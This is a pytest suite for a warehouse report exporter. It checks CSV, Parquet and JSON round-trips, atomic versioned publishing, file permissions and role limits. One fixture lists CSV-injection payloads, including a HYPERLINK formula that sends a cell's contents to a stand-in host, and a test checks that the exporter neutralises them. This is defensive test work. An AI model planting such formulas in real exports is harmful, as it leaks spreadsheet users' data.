"""Report exports: the CSV, Parquet and JSON files round-trip to the rows in Postgres.

A mart-like table with awkward values (NULLs, empty strings, unicode, quotes, commas
and newlines, numerics of mixed scales, NaN, huge integers, dates, timestamps with a
time zone, booleans, json, arrays) is exported as the analyst role and each file read
back with an ordinary reader.
"""

from __future__ import annotations

import csv
import datetime as dt
import itertools
import json
import os
import re
import stat
import struct
import subprocess
import sys
from concurrent.futures import ProcessPoolExecutor
from decimal import Decimal
from multiprocessing import get_context
from pathlib import Path

import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest

from pulse import roles
from pulse.reports import (
    FORMATS,
    PAGE,
    ReportError,
    export_all,
    export_report,
    read_reports,
    report_models_in,
    write_index,
)
from tests.conftest import query

TABLE = "rpt_test__awkward"

# column -> (Postgres type, how the test reads its CSV text back)
COLUMNS = {
    "row_id": ("integer", int),
    "label": ("text", str),
    "note": ("text", str),
    "amount": ("numeric", Decimal),  # mixed scales, all JSON-safe: JSON numbers
    "price": ("numeric(12,2)", Decimal),
    "measure": ("numeric", Decimal),  # NaN and 30 digits: strings in JSON and Parquet
    "ratio": ("double precision", float),
    "small": ("real", float),
    "big": ("bigint", int),  # one value above 2^53: the column is strings in JSON
    "count": ("bigint", int),
    "is_flag": ("boolean", {"true": True, "false": False}.__getitem__),
    "day": ("date", dt.date.fromisoformat),
    "happened_at": ("timestamp with time zone", dt.datetime.fromisoformat),
    "local_at": ("timestamp without time zone", dt.datetime.fromisoformat),
    "payload": ("jsonb", str),  # read as Postgres prints it
    "tags": ("text[]", str),
}
AS_TEXT = {"payload", "tags"}

ROWS = [
    (1, "plain", "", "1.50", "10.00", "0.5", 0.1, 0.1, 9007199254740993, 7, True, "2024-02-29",
     "2024-03-10 01:59:59.999999-06", "2024-01-01 00:00:00", '{"a": [1, "x"]}', '{a,"b c"}'),
    (2, 'Quote " and, comma\nnewline\r\nCRLF ;\t', None, "-0.0001", "-3.10", "NaN", 1e-07, -0.25,
     -42, 0, False, "0001-01-01", "1970-01-01 00:00:00+00", "2024-07-04 12:30:00.5", "null",
     "{}"),
    (3, "Zoë — 北京 — 🚀 — עברית — ' \\ \\N NULL", "null", "123456789.123456", "0.00",
     "123456789012345678901234567890.5", -1.5e300, 3.5, 2**63 - 1, -(2**53 - 1), True,
     "9999-12-31", "2024-10-27 23:00:00+05:30", "2000-02-29 23:59:59.999999",
     '{"k": "v \\" quoted"}', '{NULL,""}'),
    (4, None, None, None, None, None, None, None, None, None, None, None, None, None, None, None),
]


@pytest.fixture(scope="module")
def awkward(warehouse_db):
    """marts.rpt_test__awkward as the admin, readable by the analyst as dbt's grants do."""
    roles.connection("analyst")  # roles and the marts schema exist
    columns = ", ".join(f"{name} {type_}" for name, (type_, _) in COLUMNS.items())
    query(warehouse_db, f"drop table if exists marts.{TABLE}")
    query(warehouse_db, f"create table marts.{TABLE} ({columns})")
    placeholders = ", ".join(["%s"] * len(COLUMNS))
    for row in ROWS:
        query(warehouse_db, f"insert into marts.{TABLE} values ({placeholders})", row)
    query(warehouse_db, f"comment on table marts.{TABLE} is 'One row per awkward case.'")
    query(warehouse_db, f"comment on column marts.{TABLE}.label is 'Text that needs quoting.'")
    if roles.roles_enabled():
        query(warehouse_db, f"grant select on marts.{TABLE} to {roles.role_name('analyst')}")
    yield TABLE
    query(warehouse_db, f"drop table if exists marts.{TABLE}")


def postgres_rows(conn) -> list[dict]:
    select = ", ".join(f"{c}::text as {c}" if c in AS_TEXT else c for c in COLUMNS)
    rows = query(conn, f"set timezone to 'UTC'; select {select} from marts.{TABLE} order by row_id")
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows]


def same(a, b) -> bool:
    """Equal, and for numerics equal in representation too (1.50 is not 1.5; NaN is NaN)."""
    if isinstance(a, Decimal) and isinstance(b, Decimal):
        return a.compare_total(b) == 0
    return type(a) is type(b) and a == b or (a is None and b is None)


def float32(value: float) -> float:
    return struct.unpack("f", struct.pack("f", value))[0]


def test_export_round_trips_csv_parquet_json(warehouse_db, awkward, tmp_path):
    report = export_report("marts", awkward, tmp_path)
    expected = postgres_rows(warehouse_db)

    assert report.row_count == len(ROWS)
    if roles.roles_enabled():
        assert report.read_as == roles.role_name("analyst")
    assert [c.name for c in report.columns] == list(COLUMNS)
    assert [c.type for c in report.columns][:6] == ["integer", "text", "text", "numeric",
                                                   "numeric(12,2)", "numeric"]
    assert report.description == "One row per awkward case."
    assert dict((c.name, c.description) for c in report.columns)["label"] == "Text that needs quoting."
    # nothing but the files (links to the published version), the versions and the lock:
    # no temporary file left behind
    names = [*(f"{TABLE}.{fmt}" for fmt in (*FORMATS, PAGE)), f"{TABLE}.meta.json"]
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([*names, ".versions", ".lock"])
    versions = tmp_path / ".versions" / TABLE
    assert "current" in [p.name for p in versions.iterdir()]
    assert len(list(versions.iterdir())) == 2  # current, and the version it points to
    assert sorted(p.name for p in (versions / "current").iterdir()) == sorted(
        [*names, ".version.json"])

    # CSV: NULL is an empty unquoted field (and nothing else: "NaN" is a number), '' is "";
    # pyarrow keeps the two apart. Every value parses back exactly.
    table = pacsv.read_csv(report.path("csv"), convert_options=pacsv.ConvertOptions(
        column_types={c: pa.string() for c in COLUMNS}, null_values=[""],
        strings_can_be_null=True, quoted_strings_can_be_null=False),
        parse_options=pacsv.ParseOptions(newlines_in_values=True))
    from_csv = [{c: None if v is None else COLUMNS[c][1](v) for c, v in row.items()}
                for row in table.to_pylist()]
    assert len(from_csv) == len(expected)
    for got, want in zip(from_csv, expected, strict=True):
        for column in COLUMNS:
            assert same(got[column], want[column]), (column, got[column], want[column])
    # and the standard library's reader sees the same text fields, newlines and all
    with open(report.path("csv"), newline="", encoding="utf-8") as f:
        stdlib = list(csv.DictReader(f))
    assert [r["label"] for r in stdlib] == [r["label"] or "" for r in expected]

    # Parquet: typed; decimals at the column's scale (equal numbers), NaN column as text.
    parquet = pq.read_table(report.path("parquet"))
    assert parquet.schema.field("amount").type == pa.decimal128(15, 6)
    assert parquet.schema.field("price").type == pa.decimal128(12, 2)
    assert parquet.schema.field("measure").type == pa.string()
    assert parquet.schema.field("happened_at").type == pa.timestamp("us", tz="UTC")
    assert parquet.schema.field("small").type == pa.float32()
    assert parquet.schema.field("label").metadata[b"description"] == b"Text that needs quoting."
    for got, want in zip(parquet.to_pylist(), expected, strict=True):
        for column in COLUMNS:
            value, wanted = got[column], want[column]
            if wanted is None:
                assert value is None, column
            elif column == "measure":
                assert value == format(wanted, "f")
            elif column == "small":
                assert value == float32(wanted)
            else:
                assert value == wanted and type(value) is type(wanted), (column, value, wanted)

    # JSON: an array of objects; numbers exact (Decimal parse), dates ISO 8601 strings.
    text = report.path("json").read_text(encoding="utf-8")
    from_json = json.loads(text, parse_float=Decimal)
    assert [type(r) for r in from_json] == [dict] * len(ROWS)
    for got, want in zip(from_json, expected, strict=True):
        assert list(got) == list(COLUMNS)
        for column in COLUMNS:
            value, wanted = got[column], want[column]
            if wanted is None:
                assert value is None, column
            elif column in ("big", "measure"):  # not every value fits a double: strings
                assert value == (str(wanted) if column == "big" else format(wanted, "f"))
            elif column in ("amount", "price"):
                assert same(value, wanted), (column, value, wanted)
            elif column in ("ratio", "small"):
                assert float(value) == wanted
            elif column in ("day", "happened_at", "local_at"):
                assert COLUMNS[column][1](value) == wanted
            else:
                assert same(value, wanted), (column, value, wanted)
    # a double-based reader (JavaScript's, Python's default) gets the numbers exactly too
    plain = json.loads(text)
    assert [Decimal(repr(r["amount"])) for r in plain[:3]] == [Decimal("1.5"), Decimal("-0.0001"),
                                                               Decimal("123456789.123456")]
    assert plain[2]["count"] == -(2**53 - 1)
    assert plain[0]["happened_at"] == "2024-03-10T07:59:59.999999+00:00"


def test_index_lists_each_report(warehouse_db, awkward, tmp_path):
    export_report("marts", awkward, tmp_path)
    export_report("marts", awkward, tmp_path, name="second_copy", description="Second <copy>")
    index = write_index(tmp_path)

    page = index.read_text(encoding="utf-8")
    # one script, the index's own find and sort: no upstream text becomes markup
    assert page.startswith("<!doctype html>") and page.count("<script") == 1
    for name in (TABLE, "second_copy"):
        section = re.search(rf'<section id="{name}">(.*?)</section>', page, re.S).group(1)
        assert f'<span class="rows">{len(ROWS)} rows</span>' in section
        for fmt in FORMATS:
            assert f'href="{name}.{fmt}"' in section
        for column, (type_, _) in COLUMNS.items():
            assert f"<tr><td><code>{column}</code></td><td><code>{type_}</code></td>" in section
        assert "Text that needs quoting." in section
        assert re.search(r'<time datetime="\d{4}-\d\d-\d\dT[^"]+\+00:00">', section)
    assert "Second &lt;copy&gt;" in page  # escaped
    assert [r.name for r in read_reports(tmp_path)] == ["rpt_test__awkward", "second_copy"]


def test_other_users_can_read_the_published_files(warehouse_db, awkward, tmp_path):
    """Reports are for other people: each file and folder a reader reaches gets the mode
    an ordinary write would (umask 022 here: 0644 and 0755), not tempfile's 0600/0700."""
    old = os.umask(0o022)
    try:
        report = export_report("marts", awkward, tmp_path)
        index = write_index(tmp_path)
    finally:
        os.umask(old)
    version = report.path("csv").resolve().parent
    modes = {path.name: stat.S_IMODE(path.stat().st_mode)
             for path in [index, version, *(report.path(fmt) for fmt in FORMATS)]}
    assert modes == {index.name: 0o644, version.name: 0o755,
                     **{report.path(fmt).name: 0o644 for fmt in FORMATS}}


def test_empty_mart(warehouse_db, awkward, tmp_path):
    query(warehouse_db, "drop table if exists marts.rpt_test__empty")
    query(warehouse_db, "create table marts.rpt_test__empty (day date, total numeric)")
    report = export_report("marts", "rpt_test__empty", tmp_path, conn=warehouse_db)
    assert report.row_count == 0
    assert report.path("csv").read_text() == '"day","total"\n'
    assert json.loads(report.path("json").read_text()) == []
    assert pq.read_table(report.path("parquet")).column_names == ["day", "total"]
    query(warehouse_db, "drop table marts.rpt_test__empty")


def test_the_analyst_reads_only_the_marts(warehouse_db, awkward, tmp_path):
    if not roles.roles_enabled():
        pytest.skip("PULSE_ROLES=off: there is no analyst role")
    query(warehouse_db, "create table if not exists enriched.rpt_test__hidden as select 1 as one")
    try:
        with pytest.raises(ReportError, match="permission denied for schema enriched"):
            export_report("enriched", "rpt_test__hidden", tmp_path)
    finally:
        query(warehouse_db, "drop table enriched.rpt_test__hidden")
    with pytest.raises(ReportError, match="no such table"):
        export_report("marts", "rpt_test__missing", tmp_path)
    assert not [p for p in tmp_path.iterdir() if not p.name.startswith(".")]


def test_roles_off_reads_as_the_admin(warehouse_db, awkward, tmp_path, monkeypatch):
    monkeypatch.setenv("PULSE_ROLES", "off")
    report = export_report("marts", awkward, tmp_path)
    assert report.read_as == warehouse_db.user


def test_a_failed_export_keeps_the_last_files(warehouse_db, awkward, tmp_path):
    first = export_report("marts", awkward, tmp_path, name="kept")
    before = {fmt: first.path(fmt).read_bytes() for fmt in FORMATS}
    with pytest.raises(ReportError):
        export_report("marts", "rpt_test__missing", tmp_path, name="kept")
    assert {fmt: first.path(fmt).read_bytes() for fmt in FORMATS} == before
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_an_older_read_never_replaces_a_newer_export(warehouse_db, awkward, tmp_path):
    first = export_report("marts", awkward, tmp_path)
    # as if a later run had read the mart later and finished first
    record = tmp_path / ".versions" / TABLE / "current" / ".version.json"
    record.write_text(json.dumps({**json.loads(record.read_text()),
                                  "read_at": "2999-01-01T00:00:00+00:00"}))
    csv_before = first.path("csv").read_bytes()
    kept = export_report("marts", awkward, tmp_path)
    assert kept.refreshed_at == first.refreshed_at
    assert first.path("csv").read_bytes() == csv_before
    assert not [p for p in tmp_path.rglob("*") if p.name.startswith(".partial-")]


FORMULAS = "rpt_test__formulas"
# Text a spreadsheet would run (OWASP's CSV injection list, and a full-width equals sign),
# beside text that only looks close to it.
FORMULA_CELLS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
                 "\t=1+1", "\r=1+1", "\uff1d1+1"]
PLAIN_CELLS = ["plain", " =1+1", "a=b", "'quoted", ""]


@pytest.fixture
def formulas(warehouse_db):
    """A mart whose text cells start like formulas, and negative numbers beside them."""
    roles.connection("analyst")
    cells = FORMULA_CELLS + PLAIN_CELLS
    query(warehouse_db, f"drop table if exists marts.{FORMULAS}")
    query(warehouse_db, f"create table marts.{FORMULAS} (n integer, cell text, amount numeric, "
                        "ratio double precision, delta bigint)")
    for n, cell in enumerate(cells):
        query(warehouse_db, f"insert into marts.{FORMULAS} values (%s, %s, %s, %s, %s)",
              (n, cell, Decimal("-3.10"), -1.5, -42))
    if roles.roles_enabled():
        query(warehouse_db, f"grant select on marts.{FORMULAS} to {roles.role_name('analyst')}")
    yield cells
    query(warehouse_db, f"drop table if exists marts.{FORMULAS}")


def _csv_rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_csv_cells_that_start_like_formulas_are_neutralised(warehouse_db, formulas, tmp_path):
    report = export_report("marts", FORMULAS, tmp_path)

    rows = _csv_rows(report.path("csv"))
    assert [r["cell"] for r in rows] == ["'" + c for c in FORMULA_CELLS] + PLAIN_CELLS
    # numbers are numbers: a negative one keeps its sign and gets no quote
    assert {(r["amount"], r["ratio"], r["delta"]) for r in rows} == {("-3.10", "-1.5", "-42")}
    # JSON and Parquet are not read by spreadsheets as formulas: every value as it is
    assert [r["cell"] for r in json.loads(report.path("json").read_text())] == formulas
    assert pq.read_table(report.path("parquet")).column("cell").to_pylist() == formulas


def test_csv_formulas_kept_raw_when_asked(warehouse_db, formulas, tmp_path, monkeypatch):
    monkeypatch.setenv("PULSE_CSV_RAW_FORMULAS", "1")
    report = export_report("marts", FORMULAS, tmp_path)
    assert [r["cell"] for r in _csv_rows(report.path("csv"))] == formulas


def _export_in_child(out_dir: str, name: str) -> int:
    report = export_report("marts", TABLE, Path(out_dir), name=name)
    write_index(Path(out_dir))
    return report.row_count


def test_exports_in_parallel_processes_all_reach_the_index(warehouse_db, awkward, tmp_path):
    names = [f"parallel_{i}" for i in range(6)]
    with ProcessPoolExecutor(3, mp_context=get_context("spawn")) as pool:
        counts = list(pool.map(_export_in_child, [str(tmp_path)] * len(names), names))
    assert counts == [len(ROWS)] * len(names)
    page = (tmp_path / "index.html").read_text()
    assert all(f'<section id="{name}">' in page for name in names)
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


VERSIONED = "rpt_test__versioned"


@pytest.fixture
def versioned(warehouse_db):
    """A small mart whose rows the test changes between exports."""
    roles.connection("analyst")
    query(warehouse_db, f"drop table if exists marts.{VERSIONED}")
    query(warehouse_db, f"create table marts.{VERSIONED} as "
                        "select g as n, 'row ' || g as label from generate_series(1, 3) g")
    if roles.roles_enabled():
        query(warehouse_db, f"grant select on marts.{VERSIONED} to {roles.role_name('analyst')}")
    yield VERSIONED
    query(warehouse_db, f"drop table if exists marts.{VERSIONED}")


def published_rows(out_dir: Path, name: str) -> dict[str, int]:
    """Rows in each file of report `name`, as a reader opening its usual paths sees them."""
    meta = json.loads((out_dir / f"{name}.meta.json").read_text())
    return {"meta": meta["row_count"], "csv": len(_csv_rows(out_dir / f"{name}.csv")),
            "json": len(json.loads((out_dir / f"{name}.json").read_text())),
            "parquet": pq.read_table(out_dir / f"{name}.parquet").num_rows}


def _export_killed_at_rename(out_dir: str, nth: int) -> None:
    """Exports VERSIONED and dies (as with SIGKILL: no cleanup) at the nth rename."""
    calls = itertools.count(1)

    def dying(rename):
        def wrapper(*args, **kwargs):
            if next(calls) == nth:
                os._exit(9)
            return rename(*args, **kwargs)
        return wrapper

    os.rename, os.replace = dying(os.rename), dying(os.replace)
    export_report("marts", VERSIONED, Path(out_dir))


@pytest.mark.parametrize("nth", [1, 2, 3])
def test_an_export_killed_between_renames_leaves_the_old_version_whole(
        warehouse_db, versioned, tmp_path, nth):
    export_report("marts", versioned, tmp_path)
    query(warehouse_db, f"insert into marts.{VERSIONED} values (4, 'row 4')")

    child = get_context("spawn").Process(target=_export_killed_at_rename, args=(str(tmp_path), nth))
    child.start()
    child.join(120)
    assert child.exitcode in (9, 0)  # 0: it needed fewer renames than that, and finished
    counts = published_rows(tmp_path, versioned)
    # never a new CSV beside an old Parquet: every file from one version, old or new
    assert set(counts.values()) in ({3}, {4}), counts
    assert child.exitcode == 0 or counts["meta"] == 3

    # the next export publishes the new rows whole, and clears what the dead one left
    report = export_report("marts", versioned, tmp_path)
    assert published_rows(tmp_path, versioned) == dict.fromkeys(("meta", "csv", "json", "parquet"), 4)
    assert report.row_count == 4
    versions = [p.name for p in (tmp_path / ".versions" / versioned).iterdir()
                if not p.name.startswith(".") and p.name != "current"]
    assert len(versions) <= 2  # the one published, and the one it replaced


def test_a_write_that_fails_leaves_the_old_version_and_no_partial(
        warehouse_db, versioned, tmp_path, monkeypatch):
    export_report("marts", versioned, tmp_path)
    query(warehouse_db, f"insert into marts.{VERSIONED} values (4, 'row 4')")

    def disk_full(path, table):
        raise OSError(28, "No space left on device", str(path))

    monkeypatch.setattr("pulse.reports._write_parquet", disk_full)  # after CSV and JSON
    with pytest.raises(OSError, match="No space left"):
        export_report("marts", versioned, tmp_path)
    assert set(published_rows(tmp_path, versioned).values()) == {3}
    assert not [p for p in tmp_path.rglob(".partial-*")]


def test_exports_of_one_report_at_once_all_succeed_and_publish_one_whole_version(
        warehouse_db, awkward, tmp_path):
    with ProcessPoolExecutor(3, mp_context=get_context("spawn")) as pool:
        counts = list(pool.map(_export_in_child, [str(tmp_path)] * 6, ["same"] * 6))
    assert counts == [len(ROWS)] * 6
    assert set(published_rows(tmp_path, "same").values()) == {len(ROWS)}
    assert not [p for p in tmp_path.rglob("*") if p.name.startswith(".partial-")
                or p.name.endswith((".tmp", ".link"))]
    page = (tmp_path / "index.html").read_text()
    assert page.count('<section id="same">') == 1


def _manifest(path: Path, *tables: str) -> Path:
    node = {"resource_type": "model", "schema": "marts", "description": "", "columns": {}}
    path.write_text(json.dumps({"nodes": {
        f"model.pulse.{t}": {**node, "name": t, "fqn": ["pulse", "marts", "t", t]}
        for t in tables}}))
    return path


def test_the_report_of_a_removed_mart_leaves_the_folder_and_the_index(
        warehouse_db, awkward, versioned, tmp_path):
    out = tmp_path / "out"
    export_report("marts", versioned, out)
    # and one exported before versions existed: its files side by side, a meta file
    export_report("marts", versioned, tmp_path / "old", name="rpt_test__legacy")
    for p in (tmp_path / "old").glob("rpt_test__legacy.*"):
        (out / p.name).write_bytes(p.read_bytes())
    write_index(out)
    assert 'id="rpt_test__legacy"' in (out / "index.html").read_text()

    query(warehouse_db, f"drop table marts.{VERSIONED}")  # the mart leaves the project
    written, failed = export_all(_manifest(tmp_path / "manifest.json", TABLE), out)

    assert [r.name for r in written] == [TABLE] and not failed
    left = sorted(p.name for p in out.iterdir())
    assert left == sorted([".lock", ".versions", "index.html", f"{TABLE}.meta.json",
                           *(f"{TABLE}.{fmt}" for fmt in (*FORMATS, PAGE))])
    assert sorted(p.name for p in (out / ".versions").iterdir()) == [TABLE]
    page = (out / "index.html").read_text()
    assert VERSIONED not in page and "rpt_test__legacy" not in page
    assert [r.name for r in read_reports(out)] == [TABLE]


def test_an_export_replaces_the_files_of_the_layout_before_versions(
        warehouse_db, versioned, tmp_path):
    export_report("marts", versioned, tmp_path / "old")
    for p in (tmp_path / "old").glob(f"{VERSIONED}.*"):
        (tmp_path / p.name).write_bytes(p.read_bytes())  # plain files, as Pulse wrote them
    query(warehouse_db, f"insert into marts.{VERSIONED} values (4, 'row 4')")

    export_report("marts", versioned, tmp_path)
    for fmt in (*FORMATS, PAGE, "meta.json"):
        assert (tmp_path / f"{VERSIONED}.{fmt}").is_symlink()
    assert set(published_rows(tmp_path, versioned).values()) == {4}


def test_report_models_are_the_rpt_marts():
    def node(name, folder, **extra):
        return {"resource_type": "model", "name": name, "fqn": ["pulse", folder, "x", name],
                "schema": folder, "alias": name, "description": f"{name} ", "columns": {
                    "a": {"name": "a", "description": "the a"}}, "config": extra}

    manifest = {"nodes": {
        "model.pulse.rpt_b": node("rpt_b", "marts"),
        "model.pulse.rpt_a": node("rpt_a", "marts"),
        "model.pulse.dim_c": node("dim_c", "marts"),
        "model.pulse.rpt_staged": node("rpt_staged", "staging"),
        "model.pulse.rpt_eph": node("rpt_eph", "marts", materialized="ephemeral"),
        "seed.pulse.rpt_seed": {**node("rpt_seed", "marts"), "resource_type": "seed"},
    }}
    models = report_models_in(manifest)
    assert [m.name for m in models] == ["rpt_a", "rpt_b"]
    assert models[0].description == "rpt_a" and models[0].column_descriptions == {"a": "the a"}


def test_export_all_tries_every_report_mart(warehouse_db, awkward, tmp_path):
    manifest = tmp_path / "manifest.json"
    node = {"resource_type": "model", "schema": "marts", "description": "From the manifest.",
            "columns": {"label": {"description": "Described in dbt."}}}
    manifest.write_text(json.dumps({"nodes": {
        f"model.pulse.{TABLE}": {**node, "name": TABLE, "fqn": ["pulse", "marts", "t", TABLE]},
        "model.pulse.rpt_test__unbuilt": {**node, "name": "rpt_test__unbuilt",
                                          "fqn": ["pulse", "marts", "t", "rpt_test__unbuilt"]},
    }}))
    written, failed = export_all(manifest, tmp_path / "out")
    assert [r.name for r in written] == [TABLE]
    assert written[0].description == "From the manifest."  # the manifest's docs win
    assert {c.name: c.description for c in written[0].columns}["label"] == "Described in dbt."
    assert len(failed) == 1 and "rpt_test__unbuilt" in str(failed[0])
    assert f'<section id="{TABLE}">' in (tmp_path / "out" / "index.html").read_text()


def test_pulse_reports_command(warehouse_db, dbt_manifest, tmp_path):
    """`pulse reports` tries every rpt_ mart of the project; those not built are errors."""
    from pulse.reports import report_models

    run = subprocess.run([sys.executable, "-m", "pulse.cli", "reports", "--out", str(tmp_path)],
                         capture_output=True, text=True, timeout=600)
    models = report_models(dbt_manifest)
    assert models
    for model in models:
        assert model.name in run.stdout + run.stderr
    assert run.returncode == (1 if "error:" in run.stderr else 0), run.stderr
    assert (tmp_path / "index.html").exists()
